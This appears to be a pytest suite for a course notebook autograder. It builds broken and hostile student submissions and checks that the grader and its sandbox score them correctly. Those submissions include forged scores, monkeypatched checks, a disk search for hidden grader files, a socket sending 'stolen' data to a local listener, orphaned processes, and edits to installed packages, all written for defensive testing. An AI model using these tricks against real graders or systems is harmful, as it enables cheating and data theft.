"""Release → grade round trip, and the grader against broken and hostile submissions.

Each submission below is named by what it does; its expected score is in EXPECTED.
Lab 01's points: q1 3, q2 2, q3 3 (uses q1 and q2), q4 2.
"""

from __future__ import annotations

import copy
import hashlib
import json
import site
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell

import coursekit
from coursekit import cli
from coursekit.tooling.course import LABS
from coursekit.tooling.grading import grade as grade_module
from coursekit.tooling.grading import labfmt, sandbox
from coursekit.tooling.grading.grade import NO_SANDBOX, Bundle, Limits, assemble, grade_batch

LAB = LABS / "lab01_lottery"
# The duplicated_q4_answer submission repeats a cell id on purpose; nbformat warns as it reads it.
pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore::nbformat.warnings.DuplicateCellId")]


@pytest.fixture(scope="module")
def released(tmp_path_factory):
    out = tmp_path_factory.mktemp("release")
    assert cli.main(["release", str(LAB), "-o", str(out), "--cell-timeout", "60"]) == 0
    return out / "lab01_lottery" / "lab01_lottery.ipynb", out / "lab01_lottery-grader"


def _solutions() -> dict[str, str]:
    source = nbformat.read(LAB / "lab01_lottery.ipynb", as_version=4)
    return {labfmt.cell_id(c): c.source for c in source.cells if labfmt.role(c).get("question")
            and not labfmt.role(c).get("locked")}


def _answer(nb, cid: str, source: str) -> None:
    (cell,) = [c for c in nb.cells if labfmt.cell_id(c) == cid]
    cell.source = source


def _solved(student_nb, answers=("q1", "q2", "q3", "q4")):
    nb = copy.deepcopy(student_nb)
    for cid, source in _solutions().items():
        if cid.split("-")[0] in answers:
            _answer(nb, cid, source)
    return nb


PER_TENSOR_Q1 = """def global_magnitude_mask(weights, density):
    # each tensor keeps its own top fraction: a per-tensor threshold, not the global one Q1 asks for
    out = {}
    for name, w in weights.items():
        flat = w.detach().abs().flatten()
        keep = torch.zeros_like(flat, dtype=torch.bool)
        keep[flat.topk(round(density * flat.numel())).indices] = True
        out[name] = keep.reshape(w.shape)
    return out
"""


def _make_submissions(student_nb, folder, grades_dir, sandbox_port=None):
    """Every submission below, written into ``folder``; with ``sandbox_port`` (a port the test
    listens on) also those that only the sandbox stops (:func:`_sandbox_cheats`)."""
    sols = _solutions()
    subs = {}
    subs["passes_all"] = _solved(student_nb)
    subs["blank"] = copy.deepcopy(student_nb)
    subs["partial_q1_q2"] = _solved(student_nb, ("q1", "q2"))

    nb = _solved(student_nb)
    _answer(nb, "q1-answer", PER_TENSOR_Q1)
    subs["fails_q1_layerwise_threshold"] = nb

    nb = _solved(student_nb)
    _answer(nb, "q1-answer", "while True:\n    pass\n")
    subs["infinite_loop_in_q1"] = nb

    nb = _solved(student_nb)
    _answer(nb, "q2-answer", "import os\nos._exit(3)\n" + sols["q2-answer"])
    subs["kernel_exit_in_q2"] = nb

    nb = _solved(student_nb)
    _answer(nb, "q4-answer", "import ctypes\nctypes.string_at(0)\n" + sols["q4-answer"])
    subs["segfault_in_q4"] = nb

    nb = _solved(student_nb)
    _answer(nb, "q2-answer", "hog = [bytearray(10**8) for _ in range(10**4)]\n" + sols["q2-answer"])
    subs["memory_bomb_in_q2"] = nb

    nb = _solved(student_nb)
    _answer(nb, "q4-answer", "import sys\nsys.exit(1)\n" + sols["q4-answer"])
    subs["sys_exit_in_q4"] = nb

    nb = _solved(student_nb)
    _answer(nb, "q2-tests", "print('Q2 public tests passed')\n")
    _answer(nb, "setup", "raise SystemExit('the tests are mine now')\n")
    subs["tampered_locked_cells"] = nb

    nb = _solved(student_nb)
    nb.cells = [c for c in nb.cells if labfmt.cell_id(c) != "q2-answer"]
    subs["deleted_q2_answer"] = nb

    nb = _solved(student_nb)
    (i,) = [k for k, c in enumerate(nb.cells) if labfmt.cell_id(c) == "q4-answer"]
    stub = copy.deepcopy(student_nb.cells[i])
    nb.cells.insert(i, stub)  # a stale copy first, the solved one last
    subs["duplicated_q4_answer"] = nb

    nb = copy.deepcopy(student_nb)
    forged = {"check": "q1_global_mask_on_new_tensors", "nonce": "guess", "evidence": "anything"}
    nb.cells.append(new_code_cell(
        "print('Score: 10 / 10 -- all tests passed')\n"
        "from IPython.display import display\n"
        f"display({{'application/vnd.coursekit.evidence+json': {forged!r}}}, raw=True)\n"))
    subs["forges_score_and_evidence"] = nb

    nb = copy.deepcopy(student_nb)
    nb.cells.insert(3, new_code_cell(
        "import coursekit.tooling.grading.checks as c\n"
        "c.judge = lambda *a, **k: (True, 'ok')\n"
        "c.read_evidence = lambda *a, **k: ('ok', None)\n"
        "import IPython.display\n"
        "IPython.display.display = lambda *a, **k: None\n"
        "def global_magnitude_mask(weights, density):\n    return 'whatever'\n"))
    subs["monkeypatches_checks"] = nb

    nb = _solved(student_nb)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    subs["asks_for_another_kernel"] = nb

    nb = _solved(student_nb)
    nb.cells.append(new_code_cell("print('x' * 30_000_000)"))
    subs["huge_output"] = nb

    nb = _solved(student_nb)
    nb.cells.append(new_code_cell(
        "import json, pathlib\n"
        f"target = pathlib.Path({str(grades_dir)!r}) / 'passes_all' / 'grade.json'\n"
        "target.parent.mkdir(parents=True, exist_ok=True)\n"
        "target.write_text(json.dumps({'total': 100}))\n"
        f"pathlib.Path({str(folder)!r}, 'blank.ipynb').write_text('{{}}')\n"))
    subs["writes_into_grades_and_other_submission"] = nb

    nb = _solved(student_nb)
    nb.metadata["coursekit"]["release_id"] = "an-old-one"
    _answer(nb, "intro", "# Lab 01 (last year's text)")
    subs["from_an_older_release"] = nb

    if sandbox_port is not None:
        subs |= _sandbox_cheats(student_nb, folder, grades_dir, sandbox_port)
    for name, nb in subs.items():
        nbformat.write(nb, folder / f"{name}.ipynb")
    (folder / "malformed_json.ipynb").write_text('{"cells": [ this is not json')
    return subs


# Walks the disk (the likely places first) for a grader bundle; with its reference evidence,
# Q1's first check can be answered without computing anything.
SEARCH_FOR_THE_BUNDLE = """import json, os, torch
found, hidden = None, []
for top in ("/tmp", os.path.expanduser("~"), "/"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if not d.startswith(".") and d not in ("proc", "sys", "dev", "usr", "site-packages")]
        hidden += [root] if "hidden_tests.py" in files else []
        if "bundle.json" in files:  # this lab's: other labs' releases may lie around too
            try:
                reference = json.load(open(os.path.join(root, "bundle.json")))["reference"]
            except (OSError, ValueError, KeyError):
                continue
            if "q1_global_mask_on_new_tensors" in reference:
                found = reference
                break
    if found:
        break
print("bundle found:", found is not None, "hidden tests found in:", hidden)
reference = (found or {}).get("q1_global_mask_on_new_tensors", {})

def global_magnitude_mask(weights, density):
    return {n: torch.isin(torch.arange(w.numel()), torch.tensor(reference.get(n, []), dtype=torch.long)
                          ).reshape(w.shape) for n, w in weights.items()}
"""

# Each answer cell runs the same cell of another student's submission.
COPY_ANOTHER_SUBMISSION = """import json, pathlib
theirs = json.loads(pathlib.Path({folder!r}, "passes_all.ipynb").read_text())
exec(next("".join(c["source"]) for c in theirs["cells"] if c["metadata"].get("coursekit", {{}}).get("id") == {cid!r}))
"""

# The mark a background process carries in its command line, to find it after grading.
ORPHAN_MARK = "coursekit-hostile-orphan"


def _sandbox_cheats(student_nb, folder, grades_dir, port):
    """Submissions that the grader's own checks cannot stop, only the sandbox (see docs/grading.md)."""
    subs = {}
    nb = copy.deepcopy(student_nb)
    (i,) = [k for k, c in enumerate(nb.cells) if labfmt.cell_id(c) == "q1-answer"]
    nb.cells.insert(i + 1, new_code_cell(SEARCH_FOR_THE_BUNDLE))
    subs["searches_disk_for_the_bundle"] = nb

    nb = copy.deepcopy(student_nb)
    for cid in _solutions():
        _answer(nb, cid, COPY_ANOTHER_SUBMISSION.format(folder=str(folder), cid=cid))
    subs["reads_another_submission"] = nb

    nb = _solved(student_nb)
    nb.cells.append(new_code_cell(
        "import socket\n"
        f"with socket.create_connection(('127.0.0.1', {port}), timeout=5) as s:\n"
        "    s.sendall(b'the grader bundle, stolen')\n"))
    subs["opens_a_socket"] = nb

    nb = _solved(student_nb)
    loop = (f"import json, pathlib\n# {ORPHAN_MARK}\nwhile True:\n    sum(range(10**6))\n"
            f"    try: pathlib.Path({str(grades_dir)!r}, 'passes_all', 'grade.json').write_text(json.dumps({{'total': 99}}))\n"
            "    except OSError: pass\n")
    nb.cells.append(new_code_cell(
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {loop!r}], start_new_session=True,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"))
    subs["leaves_a_background_process"] = nb

    nb = _solved(student_nb)
    nb.cells.insert(2, new_code_cell(
        "import coursekit, pathlib, site\n"
        "for target in (pathlib.Path(coursekit.__file__), pathlib.Path(site.getsitepackages()[0], 'zz_hostile.pth')):\n"
        "    with open(target, 'a') as f:\n"
        "        f.write('\\n# edited by a submission\\n')\n"))
    subs["edits_installed_coursekit"] = nb
    return subs


EXPECTED = {
    "passes_all": 10, "blank": 0, "partial_q1_q2": 5, "fails_q1_layerwise_threshold": 5,
    "infinite_loop_in_q1": 4, "kernel_exit_in_q2": 5, "segfault_in_q4": 8, "memory_bomb_in_q2": 5,
    "sys_exit_in_q4": 8, "tampered_locked_cells": 10, "deleted_q2_answer": 5, "duplicated_q4_answer": 10,
    "forges_score_and_evidence": 0, "monkeypatches_checks": 0, "malformed_json": 0,
    "asks_for_another_kernel": 10, "huge_output": 10, "writes_into_grades_and_other_submission": 10,
    "from_an_older_release": 10,
}
# Only the sandbox stops these (without it they would score 2, 10, -, -, -: see
# test_without_the_sandbox_the_grade_says_so_and_the_cheats_work).
SANDBOX_EXPECTED = {
    "searches_disk_for_the_bundle": 0, "reads_another_submission": 0, "opens_a_socket": 10,
    "leaves_a_background_process": 10, "edits_installed_coursekit": 10,
}
NOTES = {
    "tampered_locked_cells": "was changed; the original was restored",
    "deleted_q2_answer": "was deleted",
    "duplicated_q4_answer": "appears 2 times",
    "malformed_json": "not a valid notebook",
    "asks_for_another_kernel": "asked for kernel 'ir'",
    "from_an_older_release": "from release 'an-old-one'",
    "infinite_loop_in_q1": "ran longer than its limit of 10s",
    "kernel_exit_in_q2": "stopped the kernel",
    "segfault_in_q4": "stopped the kernel",
}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1 that records what reaches it: (port, list of payloads)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                received.append(conn.recv(1 << 16))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def _guarded_files() -> dict[Path, str | None]:
    """SHA-256 of the installed files a hostile submission tries to edit (None: absent)."""
    paths = [Path(coursekit.__file__), Path(site.getsitepackages()[0]) / "zz_hostile.pth"]
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() if p.exists() else None for p in paths}


def _orphans() -> list[str]:
    """Processes left by leaves_a_background_process, killed (the PIDs are returned)."""
    pids = subprocess.run(["pgrep", "-f", ORPHAN_MARK], capture_output=True, text=True).stdout.split()
    for pid in pids:
        subprocess.run(["kill", "-9", pid])
    return pids


@dataclass
class Graded:
    book: pd.DataFrame
    grades: Path
    subs: Path
    bundle: Path
    limits: Limits
    sandboxed: bool
    orphans: list[str]  # processes that outlived grading
    edited: list[Path]  # installed files changed by grading


@pytest.fixture(scope="module")
def graded(released, tmp_path_factory, sandboxed, listener):
    student, bundle = released
    root = tmp_path_factory.mktemp("grading")
    subs, grades = root / "submissions", root / "grades"
    subs.mkdir()
    _make_submissions(nbformat.read(student, as_version=4), subs, grades,
                      sandbox_port=listener[0] if sandboxed else None)
    limits = Limits(cell_timeout=10, notebook_timeout=240, memory_bytes=3 * 2**30)
    before = _guarded_files()
    book = grade_batch(bundle, subs, grades, jobs=2, limits=limits, progress=False, sandboxed=sandboxed)
    edited = [p for p, digest in _guarded_files().items() if digest != before[p]]
    return Graded(book, grades, subs, bundle, limits, sandboxed, _orphans(), edited)


def test_release_hides_solutions_and_tests(released):
    student, bundle = released
    text = student.read_text()
    assert "BEGIN SOLUTION" not in text and "keep[flat.topk(k).indices] = True" not in text
    assert "q1_global_mask_on_new_tensors" not in text and "evidence" not in text  # no hidden checks
    nb = nbformat.read(student, as_version=4)
    assert all(not c.get("outputs") for c in nb.cells if c.cell_type == "code")
    assert sorted(p.name for p in bundle.iterdir()) == ["bundle.json", "hidden_tests.py"]
    assert Bundle.load(bundle).max_points == 10


@pytest.mark.parametrize("name", sorted(EXPECTED | SANDBOX_EXPECTED))
def test_each_submission_gets_its_expected_score(graded, name, request):
    if name in SANDBOX_EXPECTED:
        request.getfixturevalue("needs_sandbox")
    book, grades = graded.book, graded.grades
    expected = (EXPECTED | SANDBOX_EXPECTED)[name]
    row = book.set_index("student").loc[name]
    grade = json.loads((grades / name / "grade.json").read_text())
    assert row["total"] == expected, json.dumps(grade, indent=1)[:3000]
    if name in NOTES:
        said = " ".join(grade["notes"] + [i["reason"] for i in grade["incidents"]])
        assert NOTES[name] in said, said
    feedback = (grades / name / "feedback.md").read_text()
    assert f"Score: {expected:g} / 10" in feedback
    assert grade["sandbox"] is graded.sandboxed
    assert ("without a sandbox" in feedback) is not graded.sandboxed


def test_the_sandbox_stops_what_the_grader_cannot(graded, listener, needs_sandbox):
    """Each of _sandbox_cheats, and what it would have done without the sandbox."""
    executed = (graded.grades / "searches_disk_for_the_bundle" / "executed.ipynb").read_text()
    assert "bundle found: False hidden tests found in: []" in executed  # nothing private on its disk
    assert listener[1] == []  # no byte left the sandbox
    assert graded.orphans == []  # no background process outlived its notebook ...
    grade = json.loads((graded.grades / "passes_all" / "grade.json").read_text())
    assert grade["total"] == 10  # ... nor wrote into the grades folder
    assert graded.edited == []  # no installed file changed
    assert (graded.subs / "blank.ipynb").read_text() != "{}"  # nor another student's submission
    assert (graded.book["sandbox"] == "bubblewrap").all()


def test_without_the_sandbox_the_grade_says_so_and_the_cheats_work(released, tmp_path):
    """The tests of _sandbox_cheats can fail: graded with --no-sandbox, two of them succeed (the
    other three would damage this machine) and every feedback file and the gradebook say so."""
    student, bundle = released
    every, subs, grades = tmp_path / "all", tmp_path / "submissions", tmp_path / "grades"
    every.mkdir()
    subs.mkdir()
    _make_submissions(nbformat.read(student, as_version=4), every, grades, sandbox_port=1)
    for name in ("passes_all", "searches_disk_for_the_bundle", "reads_another_submission"):
        (subs / f"{name}.ipynb").write_bytes((every / f"{name}.ipynb").read_bytes())
    limits = Limits(cell_timeout=20, notebook_timeout=240, memory_bytes=3 * 2**30)
    book = grade_batch(bundle, subs, grades, jobs=2, limits=limits, progress=False, sandboxed=False)
    book = book.set_index("student")
    assert book["total"].to_dict() == {"passes_all": 10, "reads_another_submission": 10,
                                       "searches_disk_for_the_bundle": 2}
    assert (book["sandbox"] == NO_SANDBOX).all()
    assert all("Graded without a sandbox" in (grades / n / "feedback.md").read_text() for n in book.index)


def test_no_sandbox_here_means_no_grading_unless_told(released, tmp_path, monkeypatch, capsys):
    _, bundle = released
    (tmp_path / "subs").mkdir()
    monkeypatch.setattr(sandbox, "problem", lambda: "bwrap cannot run here (no namespaces)")
    assert cli.main(["grade", str(bundle), str(tmp_path / "subs"), "-o", str(tmp_path / "g")]) == 2
    err = capsys.readouterr().err
    assert "cannot grade in a sandbox: bwrap cannot run here" in err and "--no-sandbox" in err
    assert not (tmp_path / "g").exists()


def test_partial_credit_is_per_question(graded):
    book = graded.book
    row = book.set_index("student").loc["partial_q1_q2"]
    assert (row["q1"], row["q2"], row["q3"], row["q4"]) == (3, 2, 0, 0)
    wrong = book.set_index("student").loc["fails_q1_layerwise_threshold"]
    assert wrong["q1"] == 1  # the count check passes, the global-threshold one does not


def test_feedback_says_what_to_fix(graded):
    grades = graded.grades
    feedback = (grades / "fails_q1_layerwise_threshold" / "feedback.md").read_text()
    assert "rank all tensors together" in feedback
    blank = (grades / "blank" / "feedback.md").read_text()
    assert "NotImplementedError" in blank


def test_outputs_are_kept_and_truncated(graded):
    grades = graded.grades
    executed = nbformat.read(grades / "huge_output" / "executed.ipynb", as_version=4)
    longest = max(len(o.get("text", "")) for c in executed.cells for o in c.get("outputs", []))
    assert longest < 100_000


def test_gradebook_and_rerun_skips_graded(graded):
    book, grades, subs = graded.book, graded.grades, graded.subs
    on_disk = pd.read_csv(grades / "gradebook.csv")
    assert sorted(on_disk["student"]) == sorted(book["student"])
    stamp = (grades / "passes_all" / "grade.json").stat().st_mtime_ns
    again = grade_batch(graded.bundle, subs, grades, jobs=1, limits=graded.limits, progress=False,
                        sandboxed=graded.sandboxed).set_index("student")
    assert (grades / "passes_all" / "grade.json").stat().st_mtime_ns == stamp  # not graded again
    # without the sandbox, a hostile submission overwrote blank.ipynb after it was read: it alone
    # is graded again
    overwritten = (subs / "blank.ipynb").read_text() == "{}"
    assert overwritten is not graded.sandboxed
    same = [s for s in book["student"] if not (overwritten and s == "blank")]
    assert again.loc[same, "total"].equals(book.set_index("student").loc[same, "total"])
    if overwritten:
        assert json.loads((grades / "blank" / "grade.json").read_text())["notes"]


def test_assemble_matches_answers_by_id_not_position(released):
    student, bundle_dir = released
    bundle = Bundle.load(bundle_dir)
    nb = _solved(nbformat.read(student, as_version=4))
    nb.cells.reverse()  # every cell out of place
    assembled, _notes = assemble(bundle.template, nb, bundle.checks, "n")
    sources = {c.metadata["coursekit"]["id"]: c.source for c in assembled.cells}
    assert sources["q1-answer"] == _solutions()["q1-answer"]
    assert [c.metadata["coursekit"]["id"] for c in assembled.cells][:3] == ["intro", "parameters", "setup"]


def test_release_refuses_a_broken_solution(tmp_path):
    lab = tmp_path / "labx"
    lab.mkdir()
    nb = nbformat.read(LAB / "lab01_lottery.ipynb", as_version=4)
    nb.metadata["coursekit"]["lab"] = "labx"
    for cell in nb.cells:
        if labfmt.cell_id(cell) == "q4-answer":
            cell.source = cell.source.replace("p.copy_(fresh * keep)", "p.copy_(fresh)")
    nbformat.write(nb, lab / "labx.ipynb")
    (lab / "hidden_tests.py").write_text((LAB / "hidden_tests.py").read_text())
    with pytest.raises(ValueError, match="refusing to release: the solution does not earn full marks"):
        from coursekit.tooling.grading.release import release
        release(lab, tmp_path / "out", Limits(cell_timeout=60))
    assert not (tmp_path / "out").exists()


def test_grade_bad_arguments(tmp_path, capsys):
    assert cli.main(["grade", str(tmp_path), str(tmp_path), "-o", str(tmp_path / "g")]) == 2
    assert "not a grader bundle" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:
        cli.main(["grade", "b", "s", "-j", "0"])
    assert exc.value.code == 2


@pytest.fixture
def cpu_hogs():
    """Two processes that keep both cores busy for as long as the test runs."""
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(2)]
    yield
    for hog in hogs:
        hog.kill()
        hog.wait()


def test_a_loaded_machine_costs_an_honest_student_nothing(released, tmp_path, cpu_hogs, sandboxed):
    """Graded two at a time beside two CPU hogs, with a 10 s cap per cell: a slow instructor cell
    (importing torch, loading data) is run again with more time, never charged to the student."""
    student, bundle = released
    every, grades = tmp_path / "all", tmp_path / "grades"
    every.mkdir()
    _make_submissions(nbformat.read(student, as_version=4), every, grades)
    picked = ("passes_all", "infinite_loop_in_q1", "kernel_exit_in_q2", "sys_exit_in_q4")
    subs = tmp_path / "submissions"
    subs.mkdir()
    for name in picked:
        (subs / f"{name}.ipynb").write_bytes((every / f"{name}.ipynb").read_bytes())
    limits = Limits(cell_timeout=10, notebook_timeout=600, memory_bytes=3 * 2**30)
    book = grade_batch(bundle, subs, grades, jobs=2, limits=limits, progress=False,
                       sandboxed=sandboxed).set_index("student")
    assert book["total"].to_dict() == {name: EXPECTED[name] for name in sorted(picked)}
    assert (book["status"] == "graded").all()


@pytest.mark.parametrize("failures", [1, 2])
def test_an_environment_failure_is_tried_again_alone_and_never_scored_zero(released, tmp_path, monkeypatch,
                                                                            failures, sandboxed):
    """The first ``failures`` runs of the submission stop in an instructor's cell: once, the batch's
    retry (alone, at the end) grades it; twice, it is reported as not gradable, with no score."""
    student, bundle = released
    subs, grades = tmp_path / "submissions", tmp_path / "grades"
    subs.mkdir()
    nbformat.write(_solved(nbformat.read(student, as_version=4)), subs / "honest.ipynb")
    real, calls = grade_module._execute, []

    def stuck_at_first(notebook, workdir, limits, parameters, in_sandbox):
        calls.append(workdir)
        if len(calls) <= failures:
            return None, [{"cell": 2, "id": "setup", "reason": "the instructor's cell ran longer than its limit "
                                                                "of 40s twice", "environment": True}]
        return real(notebook, workdir, limits, parameters, in_sandbox)

    monkeypatch.setattr(grade_module, "_execute", stuck_at_first)
    book = grade_batch(bundle, subs, grades, progress=False, sandboxed=sandboxed).set_index("student")
    feedback = (grades / "honest" / "feedback.md").read_text()
    if failures == 1:
        assert len(calls) == 2 and book.loc["honest", "total"] == 10 and book.loc["honest", "status"] == "graded"
        return
    assert len(calls) == 2 and pd.isna(book.loc["honest", "total"]) and pd.isna(book.loc["honest", "q1"])
    assert book.loc["honest", "status"].startswith("could not grade: the grader's environment")
    assert "Not graded yet" in feedback and "No points were taken" in feedback and "Score" not in feedback
    on_disk = pd.read_csv(grades / "gradebook.csv").set_index("student")
    assert pd.isna(on_disk.loc["honest", "total"])
    monkeypatch.setattr(grade_module, "_execute", real)
    again = grade_batch(bundle, subs, grades, progress=False,
                        sandboxed=sandboxed).set_index("student")  # not skipped as graded
    assert again.loc["honest", "total"] == 10
